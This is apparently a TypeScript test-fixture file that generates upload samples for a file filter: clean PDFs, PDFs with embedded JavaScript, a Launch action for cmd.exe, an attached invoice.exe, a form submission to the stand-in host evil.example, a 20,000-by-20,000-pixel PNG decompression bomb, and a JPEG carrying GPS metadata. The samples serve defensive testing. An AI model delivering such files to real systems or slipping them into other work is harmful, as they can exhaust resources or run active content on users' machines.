// Files members upload, good and hostile: real PDFs (made with pdf-lib), PDFs carrying scripts or
// attachments, a JPEG with a GPS block, and a decompression bomb (a PNG of 20,000 x 20,000 pixels
// that weighs about 50 KB, so tests stay cheap).
import zlib from "node:zlib";
import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import sharp from "sharp";

/** A one-page PDF that parses. */
export async function pdfBytes(text = "Case study: first-contact resolution"): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([300, 200]).drawText(text.slice(0, 40), { x: 20, y: 100, size: 10 });
  return Buffer.from(await doc.save());
}

/** A PDF with an ordinary web link (a URI action): nothing active, it must be accepted. */
export async function pdfWithWebLink(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  const link = doc.context.obj({
    Type: "Annot",
    Subtype: "Link",
    Rect: [0, 0, 100, 100],
    A: { S: "URI", URI: PDFString.of("https://example.org/case-study") },
  });
  page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(link)]));
  return Buffer.from(await doc.save());
}

export type HostilePdf = "openActionJs" | "namedJs" | "launch" | "embeddedFile" | "annotationJs" | "javascriptUri";

/** A valid PDF that also carries something active. */
export async function hostilePdf(kind: HostilePdf): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  const js = (code: string) => doc.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(code) });
  if (kind === "openActionJs") doc.catalog.set(PDFName.of("OpenAction"), js("app.alert('opened')"));
  if (kind === "namedJs") {
    const tree = doc.context.obj({ Names: [PDFString.of("init"), doc.context.register(js("app.alert('named')"))] });
    doc.catalog.set(PDFName.of("Names"), doc.context.obj({ JavaScript: doc.context.register(tree) }));
  }
  if (kind === "launch")
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "Launch", F: PDFString.of("cmd.exe") }));
  if (kind === "embeddedFile")
    await doc.attach(Buffer.from("MZ not really a program"), "invoice.exe", { mimeType: "application/octet-stream" });
  if (kind === "annotationJs") {
    // the action sits two levels down, inside a page's link annotation
    const annot = doc.context.obj({
      Type: "Annot",
      Subtype: "Link",
      Rect: [0, 0, 100, 100],
      A: js("this.submitForm('https://evil.example')"),
    });
    page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(annot)]));
  }
  if (kind === "javascriptUri") {
    const link = doc.context.obj({
      Type: "Annot",
      Subtype: "Link",
      Rect: [0, 0, 100, 100],
      A: { S: "URI", URI: PDFString.of("JavaScript:app.alert(1)") },
    });
    page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(link)]));
  }
  return Buffer.from(await doc.save({ useObjectStreams: kind !== "annotationJs" }));
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A complete, valid PNG of width x height black pixels (1 bit each): 20,000 x 20,000 is ~50 KB. */
export function pngBomb(width = 20_000, height = 20_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const rows = Buffer.alloc(height * (1 + Math.ceil(width / 8))); // filter byte + bits, all zero
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    pngChunk("IHDR", header),
    pngChunk("IDAT", zlib.deflateSync(rows, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

export const GPS_MARKER = "GPS-MARKER-LAGOS-6.45N";

/** A photo as a phone takes it: EXIF with the owner's name and a GPS block. */
export async function jpegWithGps(width = 320, height = 240): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: "#a33" } })
    .jpeg()
    .withExif({
      IFD0: { Artist: "EXIF-ARTIST-NAME" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "6/1 27/1 0/1", GPSMapDatum: GPS_MARKER },
    })
    .toBuffer();
}
